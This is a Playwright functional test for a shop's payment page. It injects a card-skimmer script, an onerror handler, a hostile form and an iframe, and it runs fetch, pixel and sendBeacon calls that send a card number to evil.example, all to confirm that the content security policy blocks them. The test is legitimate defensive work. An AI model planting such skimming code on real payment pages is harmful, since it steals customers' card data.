"""S92: a script that somebody put into the pay page is not run, and nothing is sent where it asks."""

import pytest
from playwright.sync_api import Route

from tests.functional.chromium import visitor
from tests.functional.pages import shop as shops

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
PLANTED = """
<script>window.stolen = "inline"</script>
<script src="https://evil.example/skimmer.js"></script>
<img src="x" onerror="window.stolen = 'handler'">
<form action="https://evil.example/take"><button id="take">Pay</button></form>
<iframe src="https://evil.example/card"></iframe>
"""
TRIED = """
    fetch("https://evil.example/send").catch(() => 0);
    new Image().src = "https://evil.example/pixel?card=4242";
    navigator.sendBeacon("https://evil.example/beacon", "4242");
"""


class TestThePayPage:
    def test_s92_runs_nothing_that_was_planted_and_sends_nothing_away(self, stack, chromium):
        booking = shops.ready(shops.open_shop())
        away: list[str] = []

        def plant(route: Route) -> None:
            answer = route.fetch()
            body = answer.text().replace("</main>", PLANTED + "</main>")
            route.fulfill(response=answer, body=body)

        def elsewhere(route: Route) -> None:
            away.append(route.request.url)
            route.abort()

        with visitor(chromium, stack.url, cookie=shops.BROWSER) as seen:
            seen.context.route("**/pay/", plant)
            seen.context.route("https://evil.example/**", elsewhere)
            seen.page.goto(f"/bookings/{booking.token}/pay/")
            seen.page.evaluate(TRIED)
            seen.page.evaluate("document.getElementById('take').click()")
            seen.page.wait_for_function("document.readyState === 'complete'")

            assert seen.page.evaluate("window.stolen") is None
            broken = {each.split()[1] for each in seen.complaints if each.startswith("policy: ")}

        assert away == []
        assert {"script-src-elem", "script-src-attr", "frame-src", "connect-src"} <= broken
